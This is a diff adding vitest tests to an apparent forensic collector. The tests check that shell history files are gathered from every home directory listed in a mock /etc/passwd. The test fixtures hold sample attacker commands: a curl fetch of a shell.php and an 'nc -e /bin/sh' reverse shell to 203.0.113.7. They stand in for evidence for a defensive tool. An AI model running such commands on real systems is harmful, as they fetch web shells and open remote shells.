@@ -8,7 +8,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { ArtifactCollector, type ProfileSpecInput, type TargetReport } from '../../src/collect/index.js';
 import type { SandboxEntry, SandboxPath } from '../../src/testing/sandbox/index.js';
 import { skipWithoutPeer } from '../support/peers.js';
-import { addSandboxPod, bundleJson, type Env, sandboxMissing, startEnv } from './support.js';
+import { addSandboxPod, bundleJson, collectedFile, type Env, sandboxMissing, startEnv } from './support.js';
 
 const skip = skipWithoutPeer('bwrap', sandboxMissing());
 const md5 = (s: string) => createHash('md5').update(s).digest('hex');
@@ -113,5 +113,59 @@ describe.skipIf(skip)('coverage items in the collector', () => {
     expect(row?.reason).toMatch(/cap|budget/);
     const doc = bundleJson<IntegrityDoc>(r.location as string, 'containers/app/files/integrity.json');
     expect(doc.rows.find((x) => x.path === '/usr/bin/top')?.verdict).not.toBe('ok');
+  }, 60_000);
+  const history: ProfileSpecInput = {
+    name: 'history',
+    description: 'histories of every home',
+    items: [
+      {
+        id: 'hist',
+        kind: 'file',
+        paths: ['/root/.ash_history'],
+        homeFiles: ['.bash_history', '.config/x/hist'],
+      },
+    ],
+  };
+
+  it('history: every home in /etc/passwd is searched, not only /root and /home', async () => {
+    const { r } = await acquire(
+      [
+        {
+          path: '/etc/passwd',
+          content:
+            'root:x:0:0:root:/root:/bin/sh\nwww-data:x:33:33:www:/var/www:/usr/sbin/nologin\nsvc:x:900:900::/srv/svc:/bin/sh\nodd:x:901:901::/srv/*:/bin/sh\nbad:x:902:902::/proc/self:/bin/sh\n',
+        },
+        { path: '/root/.ash_history', content: 'id\n' },
+        { path: '/var/www/.bash_history', content: 'curl http://203.0.113.7/shell.php\n' },
+        { path: '/srv/svc/.config/x/hist', content: 'nc -e /bin/sh 203.0.113.7 4444\n' },
+        { path: '/srv/other/.bash_history', content: 'not a home\n' },
+      ],
+      history,
+    );
+    const loc = r.location as string;
+    expect((await collectedFile(loc, '/var/www/.bash_history'))?.toString()).toContain('shell.php');
+    expect((await collectedFile(loc, '/srv/svc/.config/x/hist'))?.toString()).toContain('nc -e');
+    expect(await collectedFile(loc, '/srv/other/.bash_history')).toBeUndefined();
+    // the glob home and the /proc home were rejected, and the report says so
+    expect(r.reasons.join(' ')).toMatch(/home directories from \/etc\/passwd: .*1 lines rejected/);
+  }, 60_000);
+
+  it('history: a passwd over its cap is not parsed as if whole: recorded, and the own paths still collected', async () => {
+    const { r } = await acquire(
+      [
+        {
+          path: '/etc/passwd',
+          content: Array.from(
+            { length: 80_000 },
+            (_, i) => `u${i}:x:${1000 + i}:100::/srv/h${i}:/bin/sh\n`,
+          ).join(''),
+        },
+        { path: '/root/.ash_history', content: 'id\n' },
+      ],
+      history,
+    );
+    expect((await collectedFile(r.location as string, '/root/.ash_history'))?.toString()).toBe('id\n');
+    expect(r.status).toBe('partial');
+    expect(r.reasons.join(' ')).toMatch(/home directories from \/etc\/passwd/);
   }, 60_000);
 });
